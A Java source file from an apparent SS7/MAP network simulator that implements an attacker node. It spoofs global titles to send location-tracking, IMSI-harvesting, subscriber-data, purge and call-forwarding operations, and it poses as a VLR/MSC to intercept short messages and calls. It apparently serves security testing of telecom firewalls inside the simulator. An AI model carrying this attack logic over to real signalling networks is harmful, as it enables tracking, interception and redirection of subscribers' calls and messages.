package org.ss7sim.simulator.node.attacker;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.ss7sim.map.dialogue.MapOpenInfo;
import org.ss7sim.map.message.AnyTimeInterrogationArg;
import org.ss7sim.map.message.AnyTimeInterrogationRes;
import org.ss7sim.map.message.BasicServiceCode;
import org.ss7sim.map.message.CancelLocationArg;
import org.ss7sim.map.message.Identity;
import org.ss7sim.map.message.InsertSubscriberDataArg;
import org.ss7sim.map.message.InsertSubscriberDataRes;
import org.ss7sim.map.message.MapParameter;
import org.ss7sim.map.message.MtForwardSmArg;
import org.ss7sim.map.message.MtForwardSmRes;
import org.ss7sim.map.message.ProvideRoamingNumberArg;
import org.ss7sim.map.message.ProvideRoamingNumberRes;
import org.ss7sim.map.message.ProvideSubscriberInfoArg;
import org.ss7sim.map.message.ProvideSubscriberInfoRes;
import org.ss7sim.map.message.PurgeMsArg;
import org.ss7sim.map.message.RegisterSsArg;
import org.ss7sim.map.message.RequestedInfo;
import org.ss7sim.map.message.RoutingInfoForSmArg;
import org.ss7sim.map.message.RoutingInfoForSmRes;
import org.ss7sim.map.message.SendImsiArg;
import org.ss7sim.map.message.SendImsiRes;
import org.ss7sim.map.message.SendRoutingInfoArg;
import org.ss7sim.map.message.SendRoutingInfoRes;
import org.ss7sim.map.message.SsCode;
import org.ss7sim.map.message.SsInfo;
import org.ss7sim.map.message.SubscriberIdentity;
import org.ss7sim.map.message.SubscriberInfo;
import org.ss7sim.map.message.UpdateLocationArg;
import org.ss7sim.map.message.UpdateLocationRes;
import org.ss7sim.map.operation.MapApplicationContext;
import org.ss7sim.map.operation.MapOperation;
import org.ss7sim.map.operation.MapOperations;
import org.ss7sim.map.operation.Operation;
import org.ss7sim.map.service.Confirmation;
import org.ss7sim.map.service.MapConfig;
import org.ss7sim.map.service.MapDialogue;
import org.ss7sim.map.service.MapStack;
import org.ss7sim.map.service.MapUser;
import org.ss7sim.map.sms.SmsDirection;
import org.ss7sim.map.sms.SmsTpdu;
import org.ss7sim.map.sms.SmsTpduCodec;
import org.ss7sim.sccp.GlobalTitle;
import org.ss7sim.sccp.RoutingIndicator;
import org.ss7sim.sccp.SccpAddress;
import org.ss7sim.sccp.Ssn;
import org.ss7sim.simulator.config.network.Node;
import org.ss7sim.simulator.network.NodeLogic;
import org.ss7sim.simulator.network.SimNode;
import org.ss7sim.simulator.node.AttemptListener;
import org.ss7sim.simulator.node.Outcome;
import org.ss7sim.simulator.node.Subscribers;
import org.ss7sim.tcap.component.InvokeId;
import org.ss7sim.wire.gsm.AddressString;
import org.ss7sim.wire.gsm.Imsi;

/**
 * The attacker node ({@code kind: attacker}, docs/security.md): a MAP endpoint in another network
 * that sends the classic SS7 attack operations to a victim's network with any calling GT it likes,
 * and plays the VLR/MSC it claims to be when the victim's network answers (it accepts
 * InsertSubscriberData, takes every MT-ForwardSM — an intercepted short message — and answers
 * ProvideRoamingNumber with a roaming number of its own — an intercepted call). What it obtains is
 * its loot: one line per answer ({@link #loot()}, also logged) and the data itself ({@link
 * #items()}). It knows the victim's IMSI and serving MSC as a real attacker would after an SRI-SM
 * (the network file's subscriber table). Runs on the node's thread.
 */
public final class Attacker implements NodeLogic, MapUser {
  private static final Logger LOG = LoggerFactory.getLogger(Attacker.class);

  private final Node config;
  private final Map<Integer, MapStack> maps = new HashMap<>();
  private final Map<MapDialogue, Consumer<String>> onNotice = new HashMap<>();
  private final List<String> loot = new ArrayList<>();
  private final List<Loot> items = new ArrayList<>();
  private int nextMsrn;
  private Subscribers subscribers;
  private String ownGt;
  private SimNode node;

  public Attacker(Node config) {
    this.config = config;
  }

  private static String normal(String op) {
    return op.toLowerCase(Locale.ROOT).replace('_', '-');
  }

  @Override
  public void start(SimNode node) {
    this.node = node;
    ownGt = config.globalTitles().isEmpty() ? "" : config.globalTitles().get(0).digits();
    subscribers = new Subscribers(node.network());
    node.tcapStacks()
        .forEach((ssn, tcap) -> maps.put(ssn, new MapStack(tcap, this, MapConfig.defaults())));
  }

  @Override
  public void stop() {}

  /** What the attacks obtained, one line each, in order. */
  public List<String> loot() {
    return List.copyOf(loot);
  }

  /** What the attacks obtained, as data: IMSIs, locations, short messages, calls, in order. */
  public List<Loot> items() {
    return List.copyOf(items);
  }

  private void found(Loot item) {
    if (items.size() < 10_000) {
      items.add(item);
    }
  }

  private void take(String line) {
    if (loot.size() < 10_000) {
      loot.add(line);
    }
    LOG.info("attacker {}: {}", config.name(), line);
  }

  /** Victim data an attacker is assumed to have (IMSI, serving MSC's GT). */
  private record Victim(String msisdn, String imsi, String mscGt) {}

  /**
   * Sends {@code op} about the subscriber {@code msisdn}, calling from {@code spoof} (or the
   * attacker's GT). Success: the victim's network answered with a result (what it gave away is
   * loot); failure causes: the MAP error's name, {@code blocked} (the dialogue was aborted: what a
   * firewall answers), {@code returned} (a UDTS), {@code no_response}.
   */
  public void attack(
      String op, String flow, String msisdn, Optional<String> spoof, AttemptListener listener) {
    Optional<Subscribers.Record> r = subscribers.byMsisdn(msisdn);
    Victim v =
        new Victim(
            msisdn,
            r.map(Subscribers.Record::imsi).orElse("001019999999999"),
            r.map(x -> subscribers.globalTitleOf(x.msc())).orElse(msisdn));
    String calling = spoof.orElse(ownGt);
    AddressString own = AddressString.international(calling);
    AddressString victimMsisdn = AddressString.international(msisdn);
    Imsi imsi = new Imsi(v.imsi());
    String what = normal(op) + " " + msisdn;
    switch (normal(op)) {
      case "ati" ->
          send(
              MapOperations.ANY_TIME_INTERROGATION,
              AnyTimeInterrogationArg.of(
                  new SubscriberIdentity(null, victimMsisdn), LOCATION_AND_STATE, own),
              MapApplicationContext.ANY_TIME_ENQUIRY,
              gt(calling, Ssn.MSC),
              gt(msisdn, Ssn.HLR),
              flow,
              what,
              (AnyTimeInterrogationRes res) -> info(msisdn, res.subscriberInfo()),
              listener);
      case "psi" ->
          send(
              MapOperations.PROVIDE_SUBSCRIBER_INFO,
              ProvideSubscriberInfoArg.of(imsi, LOCATION_AND_STATE),
              MapApplicationContext.SUBSCRIBER_INFO_ENQUIRY,
              gt(calling, Ssn.HLR),
              gt(v.mscGt(), Ssn.VLR),
              flow,
              what,
              (ProvideSubscriberInfoRes res) -> info(msisdn, res.subscriberInfo()),
              listener);
      case "sri" ->
          send(
              MapOperations.SEND_ROUTING_INFO,
              SendRoutingInfoArg.of(victimMsisdn, 0, own),
              MapApplicationContext.LOCATION_INFO_RETRIEVAL,
              gt(calling, Ssn.MSC),
              gt(msisdn, Ssn.HLR),
              flow,
              what,
              (SendRoutingInfoRes res) -> {
                String got = res.imsi() == null ? "-" : res.imsi().digits();
                String msrn = res.roamingNumber() == null ? "-" : res.roamingNumber().digits();
                if (res.imsi() != null) {
                  found(new Loot.HarvestedImsi(msisdn, got, "-"));
                }
                return "imsi=" + got + " msrn=" + msrn;
              },
              listener);
      case "sri-sm" ->
          send(
              MapOperations.SEND_ROUTING_INFO_FOR_SM,
              RoutingInfoForSmArg.of(victimMsisdn, true, own),
              MapApplicationContext.SHORT_MSG_GATEWAY,
              gt(calling, Ssn.MSC),
              gt(msisdn, Ssn.HLR),
              flow,
              what,
              (RoutingInfoForSmRes res) -> {
                String got = res.imsi() == null ? "-" : res.imsi().digits();
                String msc =
                    res.locationInfoWithLmsi() == null
                            || res.locationInfoWithLmsi().networkNodeNumber() == null
                        ? "-"
                        : res.locationInfoWithLmsi().networkNodeNumber().digits();
                if (res.imsi() != null) {
                  found(new Loot.HarvestedImsi(msisdn, got, msc));
                }
                return "imsi=" + got + " msc=" + msc;
              },
              listener);
      case "send-imsi" ->
          send(
              MapOperations.SEND_IMSI,
              new SendImsiArg(victimMsisdn),
              MapApplicationContext.IMSI_RETRIEVAL,
              gt(calling, Ssn.VLR),
              gt(msisdn, Ssn.HLR),
              flow,
              what,
              (SendImsiRes res) -> {
                found(new Loot.HarvestedImsi(msisdn, res.imsi().digits(), "-"));
                return "imsi=" + res.imsi().digits();
              },
              listener);
      case "register-ss" -> registerSs(v, calling, flow, what, listener);
      case "ul" ->
          send(
              MapOperations.UPDATE_LOCATION,
              new UpdateLocationArg(imsi, null, own, own, null, null, List.of()),
              MapApplicationContext.NETWORK_LOC_UP,
              gt(calling, Ssn.VLR),
              gt(msisdn, Ssn.HLR),
              flow,
              what,
              (UpdateLocationRes res) ->
                  "location of "
                      + v.imsi()
                      + " moved to "
                      + calling
                      + " (hlr "
                      + (res.hlrNumber() == null ? "-" : res.hlrNumber().digits())
                      + ")",
              listener);
      case "isd" ->
          send(
              MapOperations.INSERT_SUBSCRIBER_DATA,
              new InsertSubscriberDataArg(
                  imsi, victimMsisdn, null, 0, null, List.of(), null, List.of()),
              MapApplicationContext.SUBSCRIBER_DATA_MNGT,
              gt(calling, Ssn.HLR),
              gt(v.mscGt(), Ssn.VLR),
              flow,
              what,
              (InsertSubscriberDataRes res) -> "subscriber data of " + v.imsi() + " replaced",
              listener);
      case "purge-ms" ->
          send(
              MapOperations.PURGE_MS,
              new PurgeMsArg(imsi, own, null, null, List.of()),
              MapApplicationContext.MS_PURGING,
              gt(calling, Ssn.VLR),
              gt(msisdn, Ssn.HLR),
              flow,
              what,
              res -> v.imsi() + " purged",
              listener);
      default ->
          send(
              MapOperations.CANCEL_LOCATION,
              CancelLocationArg.of(new Identity(imsi, null)),
              MapApplicationContext.LOCATION_CANCELLATION,
              gt(calling, Ssn.HLR),
              gt(v.mscGt(), Ssn.VLR),
              flow,
              what,
              res -> v.imsi() + " detached from " + v.mscGt(),
              listener);
    }
  }

  /**
   * registerSS of call forwarding unconditional to the attacker's number, as the VLR serving the
   * victim (TS 29.002 §11.2): the MAP-OPEN names the victim by IMSI (destination reference) and the
   * VLR (origination reference); the HLR confirms with the forwarding now active.
   */
  private void registerSs(
      Victim v, String calling, String flow, String what, AttemptListener listener) {
    AddressString to = AddressString.international(ownGt);
    send(
        MapOperations.REGISTER_SS,
        new RegisterSsArg(
            SsCode.CFU, BasicServiceCode.TELEPHONY, to, null, null, null, null, List.of()),
        MapApplicationContext.NETWORK_FUNCTIONAL_SS,
        gt(calling, Ssn.VLR),
        gt(v.msisdn(), Ssn.HLR),
        flow,
        what,
        (SsInfo res) -> {
          String number = to.digits();
          if (res != null
              && res.forwardingInfo() != null
              && !res.forwardingInfo().forwardingFeatureList().isEmpty()
              && res.forwardingInfo().forwardingFeatureList().get(0).forwardedToNumber() != null) {
            number =
                res.forwardingInfo().forwardingFeatureList().get(0).forwardedToNumber().digits();
          }
          found(new Loot.Redirection(v.msisdn(), number, "cfu"));
          return "calls to " + v.msisdn() + " forwarded to " + number;
        },
        listener,
        new MapOpenInfo(
            new AddressString(0, AddressString.LAND_MOBILE, v.imsi()),
            AddressString.international(calling),
            null,
            List.of()));
  }

  /** Location and state: what a tracker asks for (RequestedInfo, TS 29.002 §8.11.1). */
  private static final RequestedInfo LOCATION_AND_STATE =
      new RequestedInfo(true, true, null, false, null, false, false, List.of());

  private String info(String subscriber, SubscriberInfo si) {
    if (si == null) {
      return "no subscriber info";
    }
    StringBuilder b = new StringBuilder();
    String state = null;
    String vlr = null;
    String msc = null;
    if (si.subscriberState() != null) {
      state = si.subscriberState().kind().name().toLowerCase(Locale.ROOT);
      b.append("state=").append(state);
    }
    if (si.locationInformation() != null) {
      var l = si.locationInformation();
      if (l.vlrNumber() != null) {
        vlr = l.vlrNumber().digits();
        b.append(" vlr=").append(vlr);
      }
      if (l.mscNumber() != null) {
        msc = l.mscNumber().digits();
        b.append(" msc=").append(msc);
      }
      if (l.cellGlobalId() != null) {
        b.append(" cell=").append(l.cellGlobalId());
      }
      if (l.ageOfLocationInformation() != null) {
        b.append(" age=").append(l.ageOfLocationInformation());
      }
    }
    found(new Loot.Location(subscriber, state, vlr, msc));
    return b.length() == 0 ? "subscriber info" : b.toString().trim();
  }

  private <A extends MapParameter, R> void send(
      Operation<A, R> op,
      A arg,
      MapApplicationContext context,
      SccpAddress calling,
      SccpAddress called,
      String flow,
      String what,
      java.util.function.Function<R, String> gain,
      AttemptListener listener) {
    send(op, arg, context, calling, called, flow, what, gain, listener, null);
  }

  private <A extends MapParameter, R> void send(
      Operation<A, R> op,
      A arg,
      MapApplicationContext context,
      SccpAddress calling,
      SccpAddress called,
      String flow,
      String what,
      java.util.function.Function<R, String> gain,
      AttemptListener listener,
      MapOpenInfo openInfo) {
    MapStack map = maps.get(calling.ssn().value());
    if (map == null) {
      map = maps.values().iterator().next();
    }
    MapDialogue d = map.open(calling, called, context, Math.min(3, context.maxVersion()));
    if (openInfo != null) {
      d.openInfo(openInfo);
    }
    boolean[] done = {false};
    Consumer<Outcome> finish =
        o -> {
          if (done[0]) {
            return;
          }
          done[0] = true;
          onNotice.remove(d);
          listener.onOutcome(o);
          listener.onEnded();
        };
    onNotice.put(
        d,
        cause -> {
          take(what + ": returned by the network (UDTS " + cause + ")");
          finish.accept(Outcome.failed("returned"));
        });
    d.invoke(
        op,
        arg,
        (Confirmation<R> c) -> {
          if (c instanceof Confirmation.Result<R> res) {
            take(what + ": answered: " + gain.apply(res.result()));
            finish.accept(Outcome.succeeded());
          } else if (c instanceof Confirmation.Error<R> e) {
            String name = e.error().code().name().toLowerCase(Locale.ROOT);
            take(what + ": error " + name);
            finish.accept(Outcome.failed(name));
          } else if (c instanceof Confirmation.NoResponse<R> n && n.reason().contains("abort")) {
            take(what + ": blocked (" + n.reason() + ")");
            finish.accept(Outcome.failed("blocked"));
          } else {
            take(what + ": no answer (" + c + ")");
            finish.accept(Outcome.failed("no_response"));
          }
        });
    node.flows().starting(flow, d::send);
  }

  private static SccpAddress gt(String digits, Ssn ssn) {
    return new SccpAddress(
        RoutingIndicator.ROUTE_ON_GT, null, ssn, GlobalTitle.e164(digits), false);
  }

  /** Plays the VLR/MSC it claimed to be: accepts subscriber data, takes short messages. */
  @Override
  public void onInvoke(MapDialogue d, InvokeId id, MapOperation operation, MapParameter argument) {
    switch (operation) {
      case INSERT_SUBSCRIBER_DATA -> {
        InsertSubscriberDataArg a = (InsertSubscriberDataArg) argument;
        String victim = a.imsi() == null ? "-" : a.imsi().digits();
        String number = a.msisdn() == null ? "-" : a.msisdn().digits();
        take("received insertSubscriberData: msisdn=" + number + " imsi=" + victim);
        found(new Loot.Profile(victim, number));
        d.returnResult(id, InsertSubscriberDataRes.of());
        d.send();
      }
      case MT_FORWARD_SM -> {
        MtForwardSmArg a = (MtForwardSmArg) argument;
        String recipient =
            a.smRpDa() instanceof org.ss7sim.map.common.SmRpDa.ByImsi byImsi
                ? byImsi.imsi().digits()
                : "-";
        Optional<SmsTpdu.SmsDeliver> deliver = deliver(a);
        String from =
            deliver
                .map(x -> x.originatingAddress() == null ? "-" : x.originatingAddress().value())
                .orElse("-");
        String text = deliver.map(Attacker::text).orElse("?");
        take(
            "intercepted mt-forwardSM for "
                + recipient
                + " from "
                + from
                + ": text=\""
                + text
                + "\"");
        found(new Loot.InterceptedSms(recipient, from, text));
        d.returnResult(id, MtForwardSmRes.of());
        d.close();
      }
      case PROVIDE_ROAMING_NUMBER -> {
        // a call for the victim: the attacker hands out a roaming number of its own
        ProvideRoamingNumberArg a = (ProvideRoamingNumberArg) argument;
        nextMsrn = (nextMsrn + 1) % 10_000;
        String msrn =
            ownGt.substring(0, Math.min(5, ownGt.length()))
                + "999"
                + String.format(Locale.ROOT, "%04d", nextMsrn);
        String victim = a.imsi() == null ? "-" : a.imsi().digits();
        String gmsc = a.gmscAddress() == null ? "-" : a.gmscAddress().digits();
        take("intercepted call routing for " + victim + ": roaming number " + msrn);
        found(new Loot.InterceptedCall(victim, msrn, gmsc));
        d.returnResult(id, ProvideRoamingNumberRes.of(AddressString.international(msrn)));
        d.close();
      }
      default -> {
        take("received " + operation);
        d.returnError(
            id,
            org.ss7sim.map.error.MapError.of(
                org.ss7sim.map.error.MapErrorCode.FACILITY_NOT_SUPPORTED));
        d.close();
      }
    }
  }

  private static Optional<SmsTpdu.SmsDeliver> deliver(MtForwardSmArg a) {
    try {
      if (SmsTpduCodec.decode(a.smRpUi(), SmsDirection.TO_MOBILE)
          instanceof SmsTpdu.SmsDeliver deliver) {
        return Optional.of(deliver);
      }
    } catch (org.ss7sim.wire.MalformedMessageException | RuntimeException e) {
      return Optional.empty();
    }
    return Optional.empty();
  }

  private static String text(SmsTpdu.SmsDeliver deliver) {
    try {
      return deliver.userData().text(deliver.dataCodingScheme(), deliver.userDataHeaderIndicator());
    } catch (org.ss7sim.wire.MalformedMessageException | RuntimeException e) {
      return "?";
    }
  }

  @Override
  public void onNotice(MapDialogue dialogue, String cause) {
    Consumer<String> c = onNotice.get(dialogue);
    if (c != null) {
      c.accept(cause);
    }
  }
}
